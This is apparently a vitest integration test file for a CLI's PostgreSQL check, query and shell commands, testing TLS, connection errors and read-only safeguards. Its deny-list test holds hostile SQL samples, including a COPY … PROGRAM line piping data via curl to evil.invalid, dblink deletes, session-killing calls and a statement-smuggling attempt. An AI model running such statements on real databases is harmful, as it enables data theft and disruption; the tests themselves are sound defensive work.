/**
 * db check / query / shell against a REAL PostgreSQL (TLS on, self-signed certificate) started by .ci/run, which
 * exports PGTEST_*. Without PGTEST_HOST these tests are skipped with the reason printed.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../src/cli';
import { dbCheck } from '../src/commands/db/check';
import { dbQuery } from '../src/commands/db/query';
import { dbShell } from '../src/commands/db/shell';
import type { DbConnectionFlags } from '../src/commands/db/options';
import { CliError } from '@cvat-cloud/runtime';
import { globals, testRuntime } from './support/test-runtime';

const E = process.env;
const HAVE_PG = Boolean(E.PGTEST_HOST);
if (!HAVE_PG) {
  console.warn('db tests skipped: PGTEST_HOST is not set (run .ci/run, which starts PostgreSQL with TLS and exports PGTEST_*).');
}

/** Flags for the test server; TLS verified against the CA by default. */
const flags = (o: Partial<DbConnectionFlags> = {}): DbConnectionFlags => ({
  host: E.PGTEST_HOST!,
  port: Number(E.PGTEST_PORT),
  user: E.PGTEST_USER!,
  database: E.PGTEST_DATABASE ?? 'cvat',
  sslmode: 'verify-full',
  ca: E.PGTEST_CA!,
  connectTimeoutSeconds: 5,
  ...o,
});
const pgEnv = (password = E.PGTEST_PASSWORD!) => ({ PGPASSWORD: password });
const fail = (p: Promise<unknown>): Promise<CliError> =>
  p.then(
    () => {
      throw new Error('expected the command to fail');
    },
    (e: unknown) => {
      if (!(e instanceof CliError)) throw e;
      return e;
    },
  );

async function admin<T>(fn: (c: Client) => Promise<T>, database = 'postgres'): Promise<T> {
  const c = new Client({ host: E.PGTEST_ADMIN_SOCKET, port: Number(E.PGTEST_PORT), user: 'postgres', database });
  await c.connect();
  try {
    return await fn(c);
  } finally {
    await c.end();
  }
}

/** A TCP server that answers PostgreSQL's SSLRequest with 'N' (no TLS) — a test double for a non-TLS server. */
async function startNoTlsServer(): Promise<{ port: number; close: () => Promise<void> }> {
  const sockets = new Set<Socket>();
  const server: Server = createServer((s) => {
    sockets.add(s);
    s.once('data', () => s.write('N'));
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as { port: number }).port,
    close: () =>
      new Promise((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

/** A TCP server that accepts and never answers (a black-holed host behind a firewall). */
async function startSilentServer(): Promise<{ port: number; close: () => Promise<void> }> {
  const sockets = new Set<Socket>();
  const server = createServer((s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as { port: number }).port,
    close: () =>
      new Promise((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

async function freePort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as { port: number }).port;
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

describe.skipIf(!HAVE_PG)('db commands against a real PostgreSQL', () => {
  const scratchDb = `ops_test_${process.pid}`;

  beforeAll(async () => {
    // A database of its own, with a fake django_migrations table, dropped afterwards.
    await admin((c) => c.query(`create database ${scratchDb} owner ${E.PGTEST_USER}`));
    await admin(
      (c) =>
        c.query(
          `create table django_migrations (id serial primary key, app varchar(255) not null, name varchar(255) not null, applied timestamptz not null);
           insert into django_migrations (app, name, applied) values
             ('contenttypes', '0001_initial', '2026-01-01T10:00:00Z'),
             ('auth', '0001_initial', '2026-01-01T10:00:01Z'),
             ('engine', '0088_consensus', '2026-01-01T10:00:05Z');
           create table probe (id int primary key, v text);
           insert into probe values (1, 'one');
           alter table django_migrations owner to ${E.PGTEST_USER};
           alter table probe owner to ${E.PGTEST_USER};`,
        ),
      scratchDb,
    );
  });
  afterAll(async () => {
    await admin((c) => c.query(`drop database if exists ${scratchDb} with (force)`));
  });

  describe('db check', () => {
    it('--output writes the check result as JSON (no password in it) while stdout shows the checks', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'cvat-ops-db-out-'));
      try {
        const runtime = testRuntime({ cwd: dir, env: pgEnv() });
        const f = flags();
        const argv = [
          'db',
          'check',
          '--host',
          f.host!,
          '--port',
          String(f.port),
          '--user',
          f.user!,
          '--database',
          f.database!,
          '--sslmode',
          'verify-full',
          '--ca',
          f.ca!,
          '--output',
          'check.json',
        ];
        expect(await runCli(argv, runtime)).toBe(0);
        const text = readFileSync(join(dir, 'check.json'), 'utf8');
        const data = JSON.parse(text) as { tls: { inUse: boolean }; checks: { check: string; status: string }[] };
        expect(data.tls.inUse).toBe(true);
        expect(data.checks.map((c) => c.check)).toContain('cvat database');
        expect(text).not.toContain(E.PGTEST_PASSWORD!);
        expect(runtime.out()).toMatch(/cvat database/);
        expect(() => JSON.parse(runtime.out())).toThrow();
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

    it('reports TLS (verify-full with the CA), server version, the cvat database and connection usage', async () => {
      const runtime = testRuntime({ env: pgEnv() });
      const r = await dbCheck({ ...globals(), connection: flags() }, runtime);
      expect(r.exitCode).toBe(0);
      expect(r.data.tls).toMatchObject({ inUse: true, version: expect.stringMatching(/^TLSv1\.[23]$/), cipher: expect.any(String) });
      expect(r.data.server!.version).toMatch(/^\d+\.\d+/);
      expect(r.data.cvatDatabase).toMatchObject({ present: true });
      expect(r.data.connections!.max).toBeGreaterThan(0);
      expect(r.data.connections!.current).toBeGreaterThanOrEqual(1);
      expect(r.data.checks.map((c) => [c.check, c.status])).toEqual([
        ['connection', 'ok'],
        ['tls', 'ok'],
        ['server version', 'ok'],
        ['cvat database', 'ok'],
        ['django migrations', 'warn'], // the cvat database of the test server was never migrated
        ['connections', 'ok'],
        ['long-running queries', 'ok'],
      ]);
      expect(r.data.connection).not.toHaveProperty('password');
    });

    it('reads the Django migrations table: count, apps and the latest migration', async () => {
      const r = await dbCheck({ ...globals(), connection: flags({ database: scratchDb }) }, testRuntime({ env: pgEnv() }));
      expect(r.data.migrations).toEqual({
        table: true,
        count: 3,
        apps: 3,
        latest: { app: 'engine', name: '0088_consensus', applied: '2026-01-01T10:00:05.000Z' },
      });
      expect(r.data.checks.find((c) => c.check === 'django migrations')).toMatchObject({
        status: 'ok',
        detail: expect.stringContaining('engine.0088_consensus'),
      });
    });

    it('connects without TLS when asked (sslmode disable) and flags it as a warning for a local server', async () => {
      const r = await dbCheck({ ...globals(), connection: flags({ sslmode: 'disable' }) }, testRuntime({ env: pgEnv() }));
      expect(r.data.tls.inUse).toBe(false);
      expect(r.data.checks.find((c) => c.check === 'tls')).toMatchObject({ status: 'warn', detail: expect.stringContaining('not in use') });
      expect(r.exitCode).toBe(0);
    });

    it('takes host, port, user, database and password from PG* variables when no flags are given', async () => {
      const runtime = testRuntime({
        env: {
          PGHOST: E.PGTEST_HOST,
          PGPORT: E.PGTEST_PORT,
          PGUSER: E.PGTEST_USER,
          PGDATABASE: scratchDb,
          PGPASSWORD: E.PGTEST_PASSWORD,
          PGSSLMODE: 'require',
        },
      });
      const r = await dbCheck({ ...globals(), connection: {} }, runtime);
      expect(r.data.connection).toMatchObject({
        database: scratchDb,
        sslmode: 'require',
        sources: { host: 'env', port: 'env', user: 'env', database: 'env', password: 'env', sslmode: 'env' },
      });
      expect(r.data.tls.inUse).toBe(true);
    });

    it('lists a long-running query from another session', async () => {
      const other = new Client({ host: E.PGTEST_ADMIN_SOCKET, port: Number(E.PGTEST_PORT), user: 'postgres', database: 'postgres' });
      await other.connect();
      // cancelled in `finally`; the rejection is expected and swallowed here so it is never unhandled
      const sleeping = other.query('select pg_sleep(5) /* ops-long-query */').catch(() => undefined);
      try {
        // wait until the server shows the query as active for a while, instead of a fixed sleep
        const deadline = Date.now() + 4000;
        for (;;) {
          const seen = await admin((c) =>
            c.query(
              "select 1 from pg_stat_activity where state = 'active' and query like '%ops-long-query%' and pid <> pg_backend_pid() and now() - " +
                "query_start > interval '200 milliseconds'",
            ),
          );
          if (seen.rowCount) break;
          if (Date.now() > deadline) throw new Error('the long query never showed up in pg_stat_activity');
          await new Promise((r) => setTimeout(r, 50));
        }
        // the admin's query is only visible in full to a superuser / pg_read_all_stats member; make the test user one
        await admin((c) => c.query(`grant pg_read_all_stats to ${E.PGTEST_USER}`));
        const r = await dbCheck({ ...globals(), connection: flags() }, testRuntime({ env: pgEnv() }));
        const q = r.data.longRunning.find((x) => x.query.includes('ops-long-query'));
        expect(q).toMatchObject({ state: 'active', user: 'postgres' });
        expect(q!.seconds).toBeGreaterThan(0.1);
      } finally {
        await admin((c) => c.query(`revoke pg_read_all_stats from ${E.PGTEST_USER}`));
        await admin((c) =>
          c.query("select pg_cancel_backend(pid) from pg_stat_activity where query like '%ops-long-query%' and pid <> pg_backend_pid()"),
        );
        await sleeping;
        await other.end();
      }
    });
  });

  describe('connection failures, each a clear error', () => {
    it('wrong password → exit 5 naming the user, the host and where the password came from', async () => {
      const e = await fail(dbCheck({ ...globals(), connection: flags() }, testRuntime({ env: pgEnv('not-the-password') })));
      expect(e.exit).toBe(5);
      expect(e.message).toContain(
        `Password authentication failed for user '${E.PGTEST_USER}' on ${E.PGTEST_HOST}:${E.PGTEST_PORT} (password from PGPASSWORD)`,
      );
    });

    it('missing database → exit 6 with the command that lists databases', async () => {
      const e = await fail(dbCheck({ ...globals(), connection: flags({ database: 'no_such_db' }) }, testRuntime({ env: pgEnv() })));
      expect(e.exit).toBe(6);
      expect(e.message).toMatch(/^Database 'no_such_db' does not exist on .*cvat-ops db query "select datname from pg_database"/);
    });

    it('nothing listening → exit 7, connection refused, immediately', async () => {
      // "immediately" = reported as a refusal, not after the 5 s connect timeout (which would give the "No answer" message)
      const port = await freePort();
      const e = await fail(dbCheck({ ...globals(), connection: flags({ port }) }, testRuntime({ env: pgEnv() })));
      expect(e.exit).toBe(7);
      expect(e.message).toContain(`Nothing accepts connections at ${E.PGTEST_HOST}:${port} (connection refused)`);
    });

    // The silent server never answers: a client that ignored --connect-timeout would hang until this test's
    // 10 s timeout (a hang guard, not a wall-clock assertion).
    it('a host that never answers → exit 7 after the connect timeout, not a hang', async () => {
      const silent = await startSilentServer();
      try {
        const e = await fail(
          dbCheck({ ...globals(), connection: flags({ port: silent.port, connectTimeoutSeconds: 1 }) }, testRuntime({ env: pgEnv() })),
        );
        expect(e.exit).toBe(7);
        expect(e.message).toContain(`No answer from 127.0.0.1:${silent.port} within 1 s`);
      } finally {
        await silent.close();
      }
    }, 10_000);

    it('TLS required but the server does not offer it → exit 4 explaining the sslmode', async () => {
      const noTls = await startNoTlsServer();
      try {
        const e = await fail(
          dbCheck({ ...globals(), connection: flags({ port: noTls.port, sslmode: 'require' }) }, testRuntime({ env: pgEnv() })),
        );
        expect(e.exit).toBe(4);
        expect(e.message).toContain(`TLS is required (sslmode=require) but 127.0.0.1:${noTls.port} does not offer TLS`);
      } finally {
        await noTls.close();
      }
    });

    it('verify-full without the CA rejects the self-signed certificate → exit 4 suggesting --ca', async () => {
      const { ca: _ca, ...noCa } = flags();
      const e = await fail(dbCheck({ ...globals(), connection: noCa }, testRuntime({ env: pgEnv() })));
      expect(e.exit).toBe(4);
      expect(e.message).toMatch(/TLS certificate of .* could not be verified \((DEPTH_ZERO_SELF_SIGNED_CERT|SELF_SIGNED_CERT_IN_CHAIN)/);
      expect(e.message).toContain('--ca <pem>');
    });
  });

  describe('db query', () => {
    const q = (sql: string, o: Partial<Parameters<typeof dbQuery>[0]> = {}, tty = false) =>
      dbQuery(
        { ...globals(), connection: flags({ database: scratchDb }), sql, write: false, ...o },
        testRuntime({ env: pgEnv(), isTTY: tty }),
      );
    const probeRows = () => admin((c) => c.query('select id, v from probe order by id').then((r) => r.rows), scratchDb);

    it('returns rows and columns inside a read-only transaction', async () => {
      const r = await q('select id, v, id * 2 as twice from probe order by id');
      expect(r.data).toMatchObject({
        command: 'SELECT',
        rowCount: 1,
        columns: ['id', 'v', 'twice'],
        rows: [{ id: 1, v: 'one', twice: 2 }],
        transaction: 'read-only',
        truncated: false,
      });
    });

    it('refuses a write with exit 3 and changes nothing', async () => {
      const e = await fail(q("insert into probe values (2, 'two')"));
      expect(e.exit).toBe(3);
      expect(e.message).toMatch(/^Refused: the statement tries to write .*read-only transaction.* re-run with --write/);
      expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
    });

    it('cannot be tricked out of the read-only transaction with a second statement', async () => {
      const e = await fail(q("commit; insert into probe values (3, 'three')"));
      expect(e.exit).toBe(2);
      expect(e.message).toContain('exactly one SQL statement');
      expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
    });

    it('--write without --yes in a non-interactive shell refuses with exit 3 before connecting', async () => {
      const e = await fail(q("insert into probe values (4, 'four')", { write: true }));
      expect(e.exit).toBe(3);
      expect(e.message).toMatch(
        /^Refusing to run a writing SQL statement .* without --yes in a non-interactive shell; nothing was changed/,
      );
      expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
    });

    it('--write --dry-run runs the statement and rolls it back, and says no sequence advanced', async () => {
      const r = await q("insert into probe values (5, 'five')", { write: true, dryRun: true });
      expect(r.data).toMatchObject({ command: 'INSERT', rowCount: 1, transaction: 'dry-run', sequencesAdvanced: [] });
      expect(JSON.stringify(r.view)).toContain('No sequence advanced.');
      expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
    });

    it('--write --dry-run names the sequence a rolled-back insert advanced anyway (sequences are not transactional)', async () => {
      const seq = () =>
        admin((c) => c.query("select last_value::text as v from pg_sequences where sequencename = 'django_migrations_id_seq'"), scratchDb);
      const was = (await seq()).rows[0].v;
      const r = await q("insert into django_migrations (app, name, applied) values ('x', 'y', now())", { write: true, dryRun: true });
      const now = (await seq()).rows[0].v;
      expect(now).not.toBe(was);
      expect(r.data.sequencesAdvanced).toEqual([`public.django_migrations_id_seq ${was} → ${now}`]);
      expect(JSON.stringify(r.view)).toContain('Sequences are not transactional, so these stay advanced: public.django_migrations_id_seq');
      const rows = await admin((c) => c.query("select count(*)::int as n from django_migrations where app = 'x'"), scratchDb);
      expect(rows.rows[0].n).toBe(0);
    });

    it('cancels a statement that outlives the statement timeout, in every mode', async () => {
      const r = await q('select 1 as one');
      expect(r.data).toMatchObject({ statementTimeoutSeconds: 30 });
      const e = await fail(q('select pg_sleep(5)', { statementTimeoutSeconds: 1 }));
      expect(e.exit).toBe(1);
      expect(e.message).toBe('The statement ran longer than the statement timeout (1 s) and was cancelled; nothing was changed.');
      const w = await fail(q('select pg_sleep(5)', { write: true, dryRun: true, statementTimeoutSeconds: 1 }));
      expect(w.message).toContain('statement timeout (1 s)');
    });

    it('refuses dblink, pg_terminate_backend and COPY … PROGRAM before sending anything, also in a dry run', async () => {
      for (const [sql, what] of [
        ["select dblink_exec('dbname=x', 'delete from probe')", 'dblink'],
        ['select pg_terminate_backend(pid) from pg_stat_activity', 'pg_terminate_backend'],
        ["copy probe to program 'curl -d @- https://evil.invalid'", 'COPY … PROGRAM'],
        ["do $$ begin execute 'delete from probe'; end $$", 'a DO block'],
        ["select query_to_xml('select 1', true, true, '')", 'query_to_xml'],
      ] as const) {
        const e = await fail(q(sql));
        expect(e.exit, sql).toBe(3);
        expect(e.message, sql).toMatch(new RegExp(`^Refused: the statement uses ${what.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
        expect(e.message).toContain('Nothing was sent to the server');
      }
      const dry = await fail(q("select dblink_exec('dbname=x', 'delete from probe')", { write: true, dryRun: true }));
      expect(dry.message).toContain('outside the dry run');
      expect(await probeRows()).toEqual([{ id: 1, v: 'one' }]);
    });

    it('runs as the read-only role when one exists: a function hiding pg_terminate_backend cannot kill the login’s other sessions', async () => {
      const user = E.PGTEST_USER!;
      await admin(async (c) => {
        await c.query('drop role if exists cvat_readonly');
        await c.query('create role cvat_readonly nologin');
        await c.query('grant pg_read_all_data to cvat_readonly');
        await c.query(`grant cvat_readonly to ${user}`);
      });
      await admin(
        (c) =>
          c.query(
            `create or replace function kill_sessions() returns setof boolean language sql as
               $$ select pg_terminate_backend(pid) from pg_stat_activity where usename = '${user}' and pid <> pg_backend_pid() $$`,
          ),
        scratchDb,
      );
      const victim = new Client({
        host: E.PGTEST_HOST,
        port: Number(E.PGTEST_PORT),
        user,
        password: E.PGTEST_PASSWORD,
        database: scratchDb,
        ssl: { rejectUnauthorized: false },
      });
      await victim.connect();
      try {
        const ok = await q('select current_user as who, count(*)::int as n from probe');
        expect(ok.data).toMatchObject({ ranAs: 'cvat_readonly', rows: [{ who: 'cvat_readonly', n: 1 }] });
        const e = await fail(q('select * from kill_sessions()'));
        expect(e.exit).toBe(1);
        // PostgreSQL 15 and 16+ word it differently.
        expect(e.message).toMatch(
          /^SQL error 42501: (must be a member of the role whose process is being terminated|permission denied to terminate process)/,
        );
        expect((await victim.query('select 1 as alive')).rows).toEqual([{ alive: 1 }]);
      } finally {
        await victim.end().catch(() => undefined);
        await admin(async (c) => {
          await c.query(`revoke cvat_readonly from ${user}`);
          await c.query('drop role cvat_readonly');
        });
      }
    });

    it('--write --yes commits', async () => {
      const r = await q("insert into probe values (6, 'six')", { write: true, yes: true });
      expect(r.data).toMatchObject({ command: 'INSERT', rowCount: 1, transaction: 'committed' });
      expect(await probeRows()).toEqual([
        { id: 1, v: 'one' },
        { id: 6, v: 'six' },
      ]);
      await admin((c) => c.query('delete from probe where id = 6'), scratchDb);
    });

    it('reports an SQL error with its code and position', async () => {
      const e = await fail(q('select nope from probe'));
      expect(e.exit).toBe(1);
      expect(e.message).toMatch(/^SQL error 42703: column "nope" does not exist \(at character 8\)/);
    });
  });

  describe('db shell through a pipe', () => {
    it('runs statements, meta commands and reports errors; exit 1 when a statement failed', async () => {
      const runtime = testRuntime({ env: pgEnv() });
      const done = dbShell({ ...globals(), connection: flags({ database: scratchDb }), write: false }, runtime);
      runtime.stdinStream.end(
        `${[
          'select id, v',
          '  from probe; select 2 as two;',
          '\\dt',
          '\\d probe',
          '\\conninfo',
          "insert into probe values (9, 'nine');",
          '\\x',
          'select id, v from probe;',
          '\\q',
          'select 1 as never_reached;',
        ].join('\n')}\n`,
      );
      const r = await done;
      const out = runtime.out();
      expect(out).toMatch(/id\s+v\n1\s+one\n\(1 row\)/);
      expect(out).toMatch(/two\n2\n\(1 row\)/);
      expect(out).toMatch(/Schema\s+Name\s+Type\s+Owner\npublic\s+django_migrations\s+table/);
      expect(out).toMatch(/Column\s+Type\s+Nullable\s+Default\nid\s+integer\s+not null/);
      expect(out).toMatch(/You are connected to cvat@127\.0\.0\.1:\d+\/ops_test_\d+, PostgreSQL [\d.]+.*, TLS TLSv1\.[23]/);
      expect(out).toContain('ERROR:  Refused: the statement tries to write');
      expect(out).toContain('Expanded display is on.');
      expect(out).toMatch(/-\[ RECORD 1 \]-\nid \| 1\nv {2}\| one/);
      expect(out).not.toContain('never_reached');
      expect(r).toMatchObject({ streamed: true, exitCode: 1, data: { statements: 4, errors: 1 } });
    });

    it('read-only shell: refuses dblink and pg_terminate_backend before sending them, and keeps running', async () => {
      const runtime = testRuntime({ env: pgEnv() });
      const done = dbShell({ ...globals(), connection: flags({ database: scratchDb }), write: false }, runtime);
      runtime.stdinStream.end(
        `${["select dblink_exec('dbname=x', 'delete from probe');", 'select pg_terminate_backend(pg_backend_pid());', 'select 7 as seven;'].join('\n')}\n`,
      );
      const r = await done;
      const out = runtime.out();
      expect(out).toContain('ERROR:  Refused: the statement uses dblink');
      expect(out).toContain('ERROR:  Refused: the statement uses pg_terminate_backend');
      expect(out).toMatch(/seven\n7\n\(1 row\)/);
      expect(r).toMatchObject({ data: { statements: 3, errors: 2 } });
    });

    it('runs an unterminated last statement at end of input and prints JSON lines with --json', async () => {
      const runtime = testRuntime({ env: pgEnv() });
      const done = dbShell({ ...globals({ json: true }), connection: flags({ database: scratchDb }), write: false }, runtime);
      runtime.stdinStream.end('select v from probe where id = 1');
      const r = await done;
      const lines = runtime
        .out()
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(lines).toEqual([
        expect.objectContaining({ statement: 'select v from probe where id = 1', command: 'SELECT', rows: [{ v: 'one' }] }),
        { summary: { statements: 1, errors: 0 } },
      ]);
      expect(r.exitCode).toBe(0);
    });
  });
});
